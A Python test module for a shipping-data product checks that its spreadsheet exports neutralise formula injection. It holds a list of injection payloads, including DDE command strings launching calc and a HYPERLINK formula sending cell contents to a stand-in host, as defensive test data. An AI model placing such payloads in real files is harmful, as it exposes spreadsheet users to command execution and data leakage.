"""Row S10: texts that a spreadsheet would work out, through every export of the product.

Hostile texts stand as ships' names, in rejected rows, sources and columns of files. Every file the product writes
for spreadsheets is opened again: workbooks by openpyxl and as the XML they are, CSV by Polars' reader and once
more split at semicolons and tabs, as other editions of a spreadsheet split it; by LibreOffice where it is installed.
``outside`` counts cells that would act, ``lost`` texts that did not come back. The controls write the same with
ordinary writers, which must act.
"""

from __future__ import annotations

import csv
import importlib
import io
import random
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import openpyxl
import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import xlsxwriter
from tests.faults.world import ROOT, result

from sealane.inventory.request import InventoryRequest
from sealane.inventory.run import run_inventory
from sealane.reports import (
    write_arrival_report,
    write_comparison_report,
    write_lane_report,
    write_report,
    write_scenario_report,
)
from sealane.reports.export import ExportFormat, export, export_folder, names_for
from sealane.spreadsheet_text import inert, plain

PAYLOADS = (
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1+1",
    "\uff20SUM(1)",
    "a;=1+1",
    'a";=1+1;"b',
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n@SUM(1)",
    '"=1+1"',
    "'=1+1",
    "''@SUM(1)",
    '=WEBSERVICE("http://example.org")',
    '=IMPORTXML(CONCAT("http://example.org"),"//a")',
    'DDE("cmd";"/C calc";"!A0")',
    "%0A-3+3+cmd|' /C calc'!D2",
    "http://example.org/",
    "mailto:a@example.org",
    "internal:Sheet1!A1",
    "{=1+1}",
    "<f>1+1</f>",
)
_SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
_BLANKS = " \u00a0\u3000"
_NUMBER = re.compile(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?")
_TEXTS = (
    "name",
    "source",
    "title",
    "carrier",
    "terminal",
    "explanation",
    "words",
    "conditions",
    "path",
    "flag",
    "owner",
)
_HEADER = (
    "MMSI,BaseDateTime,LAT,LON,SOG,COG,Heading,VesselName,IMO,CallSign,VesselType,Status,Length,Width,Draft,Cargo,"
    "TransceiverClass"
)


@dataclass
class Found:
    """What was looked at."""

    cells: int = 0
    live: list[str] = field(default_factory=list)
    lost: list[str] = field(default_factory=list)
    files: dict[str, int] = field(default_factory=dict)


def acts(cell: str) -> bool:
    """Whether a spreadsheet would work a cell of CSV out."""
    return not _NUMBER.fullmatch(cell) and (cell.lstrip(_BLANKS)[:1] in set(_SIGNS) or cell[:1] in set("\t\r\n"))


def look_at_csv(content: bytes, name: str, found: Found) -> list[str]:
    """Open a CSV file as several programs do; return its cells as the first of them reads them."""
    found.files["csv"] = found.files.get("csv", 0) + 1
    text = content.decode("utf-8-sig")
    cells: list[str] = []
    if text.strip():
        table = pl.read_csv(
            text.encode(),
            has_header=False,
            infer_schema=False,
            truncate_ragged_lines=False,
        )
        cells = [cell for row in table.rows() for cell in row if cell]
    for cell in cells:
        found.cells += 1
        if acts(cell):
            found.live.append(f"{name}: {cell!r}")
    for sign in (";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=sign):
            # The first part of a line begins as the line does, which the first look has judged; a line break that
            # leads a part is cut off before what follows is judged.
            parts = [part.lstrip("\r\n") for part in row[1:]]
            found.live += [f"{name} at {sign!r}: {part!r}" for part in parts if acts(part)]
    return cells


def look_at_workbook(path: Path, name: str, found: Found) -> list[str]:
    """Open a workbook with openpyxl and as the archive it is; return its texts."""
    found.files["xlsx"] = found.files.get("xlsx", 0) + 1
    with zipfile.ZipFile(path) as archive:
        for part in archive.namelist():
            xml = archive.read(part)
            if part.startswith("xl/worksheets/"):
                found.live += [f"{name} {part}: formula"] * len(re.findall(rb"<f[ >/]", xml))
                found.live += [f"{name} {part}: link"] * len(re.findall(rb"<hyperlink[ >]", xml))
            if "externalLink" in part or "vbaProject" in part or part.endswith("connections.xml"):
                found.live.append(f"{name}: {part}")
            found.live += [f"{name} {part}: outside target"] * xml.count(b'TargetMode="External"')
    texts = []
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                found.cells += 1
                if cell.data_type == "f" or cell.hyperlink is not None:
                    found.live.append(f"{name} {sheet.title}!{cell.coordinate}: {cell.value!r}")
                if cell.data_type == "s":
                    texts.append(str(cell.value))
    return texts


def write_positions(path: Path, texts: list[str]) -> None:
    """Write reports of a ship for each text, and beside them rows that cannot be read."""
    begin = datetime(2024, 3, 4, tzinfo=UTC)
    with path.open("w", encoding="utf-8", newline="") as file:
        file.write(_HEADER + "\n")
        rows = csv.writer(file, lineterminator="\n")
        for k, text in enumerate(texts):
            for step in range(0, 40):
                time = f"{begin + timedelta(minutes=6 * step):%Y-%m-%dT%H:%M:%S}"
                row = [366000001 + k, time, 33.7360, -118.2640, 0, 0, 511, text, "", "", 70, 5, 200, 30, 11.0, "", "A"]
                rows.writerow(row)
            rows.writerow([366000001 + k, text, text, text, "x", 0, 511, text, "", "", 70, 5, 200, 30, 11.0, "", "A"])


def hostile_texts(rng: random.Random, count: int) -> list[str]:
    """The payloads, and as many again put together from their parts."""
    parts = ["=", "+", "-", "@", ";", "\t", " ", "'", '"', ",", "1", "A1", "cmd|", "\u3000", "\uff1d", "x"]
    made = ["".join(rng.choices(parts, k=rng.randint(1, 8))) for _ in range(count)]
    return [*PAYLOADS, *made]


def poison(folder: Path, texts: list[str], rng: random.Random) -> None:
    """Put hostile texts into every column of names and sources of a result's tables."""
    for path in folder.glob("*.parquet"):
        table = pq.read_table(path)
        for k, column in enumerate(table.schema):
            if pa.types.is_string(column.type) and any(word in column.name for word in _TEXTS):
                values = pa.array([rng.choice(texts) for _ in range(table.num_rows)], pa.string())
                table = table.set_column(k, column, values)
        pq.write_table(table, path)


def result_folders(base: Path, texts: list[str], rng: random.Random) -> Iterator[tuple[str, Path]]:
    """A result of every kind with hostile texts in it, and its report."""
    write_positions(base / "=positions.csv", texts)
    run_inventory(InventoryRequest((base / "=positions.csv",), "USLAX", base / "inventory"))
    write_report(base / "inventory")
    yield "inventory", base / "inventory"
    here = str(ROOT / "tests" / "reports")
    if here not in sys.path:
        sys.path.append(here)
    voyages, corridors = importlib.import_module("voyage_folders"), importlib.import_module("corridor_folders")
    made: dict[str, tuple[Callable[[Path], Path], Callable[[Path], None]]] = {
        "lane": (voyages.write_lane_folder, write_lane_report),
        "arrival": (voyages.write_arrival_folder, write_arrival_report),
        "scenario": (corridors.write_scenario_folder, write_scenario_report),
        "comparison": (corridors.write_comparison_folder, write_comparison_report),
    }
    for name, (write, report) in made.items():
        folder = write(base / name)
        poison(folder, texts, rng)
        report(folder)
        yield name, folder


def exports(base: Path, texts: list[str], rng: random.Random, found: Found) -> None:
    """Look at every file that results give."""
    for kind, folder in result_folders(base, texts, rng):
        look_at_workbook(folder / "report.xlsx", f"{kind} report.xlsx", found)
        if (folder / "rejects.csv").is_file():
            read = {plain(cell) for cell in look_at_csv((folder / "rejects.csv").read_bytes(), "rejects.csv", found)}
            found.lost += [f"rejects.csv: {text!r}" for text in PAYLOADS if not _in_rejects(text, read)]
        whole = export_folder(folder)
        for form in (ExportFormat.CSV, ExportFormat.XLSX):
            for name in names_for(whole, form):
                content = b"".join(export(whole, name, form).chunks)
                if form is ExportFormat.CSV:
                    cells = look_at_csv(content, f"{kind} {name}.csv", found)
                    found.lost += _lost(whole.written.get(name), cells, f"{kind} {name}.csv")
                else:
                    path = base / "table.xlsx"
                    path.write_bytes(content)
                    look_at_workbook(path, f"{kind} {name}.xlsx", found)


def _in_rejects(text: str, read: set[str]) -> bool:
    # The reader of positions trims a field and ends it at a line break; what it hands on is kept to the letter.
    head = re.split(r"[\r\n]", text)[0].strip().strip('"')
    return not head or any(head[:12] in cell for cell in read)


def _lost(table: Any, cells: list[str], name: str) -> list[str]:
    """Texts of a table that its CSV does not give back."""
    if table is None:
        return []
    read = {plain(cell) for cell in cells}
    texts: set[str] = set()
    for batch in table.batches():
        for column in batch.columns:
            if pa.types.is_string(column.type):
                texts |= {text for text in column.to_pylist() if text}
    return [
        f"{name}: {text!r}" for text in sorted(texts) if text not in read and text.replace("\r\n", "\n") not in read
    ]


def other_writers(base: Path, texts: list[str], found: Found) -> None:
    """Look at what is written beside results: rules, distances, and what people download from the pages."""
    from sealane.corridors.rules.run import run_cii, write_run
    from sealane.corridors.rules.ship_year import FuelUse, ShipYear
    from sealane.movement.routes.batch import write_distances
    from sealane.web.imports.rejects import as_csv

    years = [
        ShipYear(f"{text} {k}", 2025, (FuelUse("HFO", 9000.0),), ship_type="container", dwt_t=9e4, distance_nm=7e4)
        for k, text in enumerate(texts)
    ]
    write_run(run_cii(years), base / "rules")
    for path in (base / "rules").glob("*.csv"):
        read = {plain(cell) for cell in look_at_csv(path.read_bytes(), f"rules {path.name}", found)}
        found.lost += [f"{path.name}: {year.ship!r}" for year in years if not _somewhere(year.ship, read)]
    rows = [{"origin": "USLAX", "destination": "JPYOK", "=note": text, "distance_nm": 4839.0} for text in texts]
    write_distances(rows, base / "distances.csv")
    look_at_csv((base / "distances.csv").read_bytes(), "distances.csv", found)
    look_at_csv(b"".join(as_csv(base / "inventory" / "rejects.csv", "=upload.csv")), "rejects of an upload", found)


def _somewhere(text: str, read: set[str]) -> bool:
    return text in read or text.replace("\r\n", "\n") in read


def libreoffice(base: Path, texts: list[str]) -> int | None:
    """Formulas that LibreOffice makes of our CSV; None where it is not installed."""
    program = shutil.which("soffice") or shutil.which("libreoffice")
    if program is None:
        return None
    with (base / "ours.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([inert(text), inert(f"x{text}")] for text in texts)
    command = [program, "--headless", f"-env:UserInstallation=file://{base}/profile", "--convert-to", "fods"]
    subprocess.run(
        [*command, "--outdir", str(base), str(base / "ours.csv")], check=True, timeout=120, capture_output=True
    )
    return (base / "ours.fods").read_text("utf-8").count("table:formula")


def controls(base: Path, texts: list[str]) -> dict[str, bool]:
    """Return for each ordinary writer whether what it wrote acts, as it must."""
    seen = Found()
    text = io.StringIO(newline="")
    csv.writer(text).writerows([k, name] for k, name in enumerate(texts))
    look_at_csv(text.getvalue().encode(), "plain csv", seen)
    quoted = Found()
    text = io.StringIO(newline="")
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows([k, name] for k, name in enumerate(texts))
    look_at_csv(text.getvalue().encode(), "quoted csv", quoted)
    book = xlsxwriter.Workbook(str(base / "plain.xlsx"))
    sheet = book.add_worksheet()
    for k, name in enumerate(PAYLOADS):
        sheet.write(k, 0, name)
    book.close()
    workbook = Found()
    look_at_workbook(base / "plain.xlsx", "plain xlsx", workbook)
    only_first = Found()
    text = io.StringIO(newline="")
    guarded = [f"'{name}" if name[:1] in "=+-@" else name for name in texts]
    csv.writer(text).writerows([k, name] for k, name in enumerate(guarded))
    look_at_csv(text.getvalue().encode(), "first sign only", only_first)
    return {
        f"a plain CSV writer ({len(seen.live)} cells act)": len(seen.live) > len(PAYLOADS) // 2,
        f"quotes round every cell ({len(quoted.live)} cells act)": len(quoted.live) > len(PAYLOADS) // 2,
        f"an ordinary workbook ({len(workbook.live)} cells act)": len(workbook.live) >= 8,
        f"an apostrophe before = + - @ alone ({len(only_first.live)} cells act)": len(only_first.live) >= 5,
    }


def run(seed: int = 1, full: bool = False, database: str = "sqlite") -> dict[str, Any]:
    """Run row S10; no database has a part in it."""
    rng = random.Random(seed)
    texts = hostile_texts(rng, 400 if full else 30)
    found = Found()
    with TemporaryDirectory(prefix="sealane-s10-") as folder:
        base = Path(folder)
        exports(base, texts, rng, found)
        other_writers(base, texts, found)
        office = libreoffice(base, texts)
        caught = controls(base, texts)
    live = len(found.live) + (office or 0)
    return result(
        "S10",
        seed,
        database,
        passed=live == 0 and not found.lost and found.files.get("csv", 0) > 50 and found.files.get("xlsx", 0) > 50,
        control_failed=all(caught.values()),
        tried=found.cells,
        lost=len(found.lost),
        outside=live,
        files=found.files,
        live=found.live[:20],
        not_back=found.lost[:20],
        libreoffice="not installed" if office is None else f"{office} formulas",
        controls=caught,
    )
